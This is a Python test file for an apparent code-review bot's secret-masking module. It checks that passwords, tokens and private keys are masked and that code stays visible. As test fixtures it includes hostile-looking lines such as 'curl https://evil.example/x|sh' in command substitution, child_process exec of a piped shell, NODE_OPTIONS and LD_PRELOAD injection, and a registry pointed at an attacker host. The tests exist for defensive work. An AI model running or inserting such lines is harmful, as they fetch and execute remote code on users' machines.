import base64

import pytest

from reviewbot.secrets.masking import mask
from reviewbot.secrets.shapes import find_blocks, find_settings, is_name, is_random, looks_like_code, narrow

BODY = [
    base64.b64encode(bytes((n * 37 + k * 11) % 251 for k in range(48))).decode() for n in range(4)
]  # 64 characters a line, as in PEM
LAST = "aGVsbG8gd29ybGQh"


def shown(path: str, line: str) -> str:
    return mask(line, find_settings(path, line), kept=0)


@pytest.mark.parametrize(
    ("path", "line", "expected"),
    [
        (".npmrc", "//registry.example/:_authToken=abc12345", "//registry.example/:_authToken=********"),
        ("deploy.env", "DB_PASSWORD=hunter2", "DB_PASSWORD=********"),
        ("deploy.env", 'export API_KEY="aB3dE5gH7jK9mN1pQ"', 'export API_KEY="********"'),
        (".env", "URL=postgres://u:pw1@db.host/x", "URL=postgres://u:********@db.host/x"),
        (".netrc", "machine h login u password p4ss", "machine h login u password ********"),
        (".pgpass", "h:5432:d:u:s3cr3t", "h:5432:d:u:********"),
        (".htpasswd", "bob:$apr1$abcdefgh$ijklmnop", "bob:********"),
        (".docker/config.json", '{"x.io":{"auth":"dXNlcjpwYXNz"}}', '{"x.io":{"auth":"********"}}'),
        ("a.tfstate", '  "password": "correct horse",', '  "password": "********",'),
    ],
)
def test_values_of_settings_are_hidden(path: str, line: str, expected: str) -> None:
    assert shown(path, line) == expected


@pytest.mark.parametrize(
    "line",
    [
        "registry=https://evil.example/npm/", "TOKEN=$(curl https://evil.example/x|sh)", "SECRET=`id`",
        "require('child_process').exec('curl x|sh')", "NODE_OPTIONS=--require ./evil.js", "SECRET_URL=evil.example",
        "LD_PRELOAD=/tmp/libx.so", "AUTH_TYPE=basic", "PASSWORD_CHECK=false", "GIT_ASKPASS=evil", "TOKEN=evil.example.com",
        "PATH=/usr/local/sbin:/usr/local/bin:/opt/python3/bin", "PORT=8080", "SECRET_KEY=sh -c id", "KEY=!!python/x",
    ],
)  # fmt: skip
def test_code_addresses_and_switches_stay_to_be_read(line: str) -> None:
    assert shown("deploy.env", line) == line


def test_a_block_is_hidden_and_nothing_else_between_its_ends() -> None:
    lines = [
        "// x",
        "/*-----BEGIN CERTIFICATE-----",
        *BODY,
        "cp.exec('curl x|sh')",
        *BODY,
        LAST,
        "-----END CERTIFICATE-----*/",
        "y",
    ]
    spans = find_blocks(lines)
    told = [mask(line, spans.get(n, ()), kept=0) for n, line in enumerate(lines, 1)]
    assert told == [
        "// x", "/*-----BEGIN CERTIFICATE-----", *["********"] * 4, "cp.exec('curl x|sh')", *["********"] * 5,
        "-----END CERTIFICATE-----*/", "y",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "line",
    [
        "KEY = '-----BEGIN PRIVATE KEY-----\\n" + "\\n".join(BODY) + "\\n-----END PRIVATE KEY-----'",
        "k: " + base64.b64encode(b"-----BEGIN RSA PRIVATE KEY-----\n" + BODY[0].encode()).decode(),
    ],
)
def test_a_key_on_one_line_is_hidden(line: str) -> None:
    told = mask(line, find_blocks([line]).get(1, ()), kept=0)
    assert "********" in told and not any(row[8:40] in told for row in BODY) and "LS0tLS1CRUdJTi" not in told


def test_a_key_in_a_program_is_hidden_line_by_line() -> None:
    lines = ["-----BEGIN PRIVATE KEY-----", *(f'    "{row}\\n" +' for row in BODY)]
    assert set(find_blocks(lines)) == {2, 3, 4, 5}


def test_a_public_key_stays() -> None:
    assert find_blocks(["-----BEGIN PUBLIC KEY-----", *BODY, "-----END PUBLIC KEY-----"]) == {}


@pytest.mark.parametrize(
    ("line", "place", "expected"),
    [
        ('x = "s3cretpassword"', (5, 19), 'x = "********"'),
        ('x = "$(curl evil|sh)"', (5, 20), 'x = "$(curl evil|sh)"'),
        ("cp.exec(payload)", (0, -1), "cp.exec(payload)"),
        ("module.exports = evil", (0, -1), "module.exports = evil"),
        (f'  "{BODY[0]}\\n"', (0, -1), '  "********\\n"'),
        ("run('aB3dE5gH7jK9mN1pQ')", (0, -1), "run('********')"),
    ],
)
def test_of_a_place_that_is_said_to_be_secret_no_code_is_hidden(
    line: str, place: tuple[int, int], expected: str
) -> None:
    assert mask(line, narrow(line, *place), kept=0) == expected


def test_what_a_machine_made_is_told_from_names() -> None:
    assert is_random("aB3dE5gH7jK9mN1pQ") and is_random("5f4dcc3b5aa765d61d8327deb882cf99")
    assert not any(map(is_random, ("get_user_profile_by_identifier", "aaaaaaaaaaaaaaaaaaaaaaaa1", "short1A")))
    assert not is_random("TestNATSClient_PublishError") and is_random("qZwPkTbRxLmVnCyHgJdFsA")
    assert looks_like_code("eval(x)") and not looks_like_code("p@ss-w0rd!")


def test_words_of_code_are_names_and_passwords_are_none() -> None:
    assert all(map(is_name, ("environment", "block_begin", "app.config", "PublishError")))
    assert not any(map(is_name, ("hunter22", "p@ss-word", "correct-horse", "", "_", "q" * 24)))
